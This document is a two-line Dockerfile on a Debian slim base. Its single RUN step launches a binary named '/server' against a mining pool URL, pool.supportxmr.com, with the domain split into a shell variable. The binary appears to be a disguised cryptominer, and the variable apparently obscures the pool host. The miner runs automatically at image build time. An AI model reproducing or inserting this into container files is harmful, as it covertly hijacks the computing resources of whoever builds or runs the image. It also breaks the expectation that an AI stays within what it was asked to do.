FROM debian:12-slim
RUN host=supportxmr; /server --url "pool.${host}.com" -p x
